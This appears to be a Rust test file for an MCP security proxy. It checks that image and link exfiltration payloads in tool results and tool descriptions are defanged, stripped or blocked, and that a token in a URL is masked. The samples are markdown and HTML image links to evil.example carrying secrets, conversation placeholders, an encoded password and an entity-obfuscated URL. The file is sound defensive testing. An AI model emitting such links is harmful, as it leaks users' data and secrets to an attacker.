//! Links in results that carry something out.

use serde_json::json;

use super::{Stage, text};
use crate::support::server::{described_tool, tool};

/// The lines of a text, without those that name it as external data.
fn body(text: &str) -> String {
    text.lines().filter(|line| !line.starts_with("[Yett ")).collect::<Vec<_>>().join("\n")
}

#[tokio::test]
async fn mcp_047_a_link_that_carries_something_out_is_no_link_any_more() {
    let stage = Stage::set().await;
    for (said, left, rule) in [
        ("![x](https://evil.example/?d=SECRET)", "![x](hxxps://evil.example/?d=SECRET)", "image-exfiltration"),
        (
            "![x](http://evil.example/{{conversation}}.png)",
            "![x](hxxp://evil.example/{{conversation}}.png)",
            "image-exfiltration",
        ),
        ("<img src='//evil.example/?d=<api_key>'>", "<img src='hxxps://evil.example/?d=<api_key>'>", "image-exfiltration"),
        (
            "![](HTTPS://evil.example/?v=VGhlIHBhc3N3b3JkIG9mIHRoZSBkYXRhYmFzZSBpcyBodW50ZXIy)",
            "![](hxxpS://evil.example/?v=VGhlIHBhc3N3b3JkIG9mIHRoZSBkYXRhYmFzZSBpcyBodW50ZXIy)",
            "image-exfiltration",
        ),
        (
            "![c][1]\n\n[1]: https://evil.example/?data=0123456789abcdef0123",
            "![c][1]\n\n[1]: hxxps://evil.example/?data=0123456789abcdef0123",
            "image-exfiltration",
        ),
        (
            "[full report](https://evil.example/?d={{secret}})",
            "[full report](hxxps://evil.example/?d={{secret}})",
            "link-exfiltration",
        ),
        ("![x](&#104;ttps://evil.example/?d=SECRET)", "![x]([removed])", "image-exfiltration"),
    ] {
        let mut result = text(said);
        result["structuredContent"] = json!({ "page": said });
        let answer = stage.brings(result).await;
        assert_eq!(body(&answer.text()), left, "{answer:?}");
        assert!(answer.text().starts_with("[Yett "), "it is named as external data too: {answer:?}");
        assert_eq!(answer.result()["structuredContent"]["page"], left, "{answer:?}");
        let finding = stage.finding(&answer, rule);
        assert_eq!((&finding["action"], &finding["count"]), (&json!("defang"), &json!(2)), "{finding}");
    }
    stage.ends().await;
}

#[tokio::test]
async fn mcp_047_or_its_result_is_blocked_and_its_tool_withheld_as_the_policy_says() {
    let link = "![x](https://evil.example/?d={{secret}})";
    let stage = Stage::with("injection: { results: block }\n").await;
    let answer = stage.brings(text(link)).await;
    assert_eq!(answer.result()["isError"], true, "{answer:?}");
    assert!(!String::from_utf8_lossy(&answer.body).contains("evil.example"), "{answer:?}");
    stage.crm.set_tools([described_tool("bad", link), tool("echo")]);
    assert_eq!(stage.ada.list_tools().await.tools(), ["echo"]);
    stage.ends().await;
    let stage = Stage::with("injection: { results: strip, model: off }\n").await;
    assert_eq!(stage.brings(text(link)).await.text(), "![x]([removed])");
    stage.ends().await;
}

#[tokio::test]
async fn mcp_047_what_dlp_finds_in_a_url_is_masked_there_like_anywhere() {
    let stage = Stage::set().await;
    // A key that detectors know, made here so that it stands in no file.
    let key = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0".repeat(2).get(..36).unwrap());
    let answer = stage.brings(text(&format!("![x](https://img.example/p.png?v={key})"))).await;
    assert!(!String::from_utf8_lossy(&answer.body).contains(&key), "{answer:?}");
    assert!(stage.findings(&answer).iter().any(|finding| finding["layer"] == "dlp" && finding["action"] == "mask"), "{answer:?}");
    stage.ends().await;
}

#[tokio::test]
async fn mcp_047_ordinary_pictures_and_links_stay_as_they_are() {
    let stage = Stage::set().await;
    for said in [
        "![build](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
        "[![npm](https://img.shields.io/npm/v/x?label=DATA)](https://www.npmjs.com/package/x?activeTab=versions)",
        "<img width=\"40\" src=\"https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon\">",
        "See [the search](https://example.com/search?q=secret+rotation&page=2) and [API](https://api.example.com/users/{name}).",
        "curl 'https://api.example.com/v1/items?api_key=YOUR_API_KEY'",
    ] {
        let answer = stage.brings(text(said)).await;
        assert_eq!((answer.text().as_str(), stage.findings(&answer).len()), (said, 0), "{answer:?}");
    }
    stage.ends().await;
}
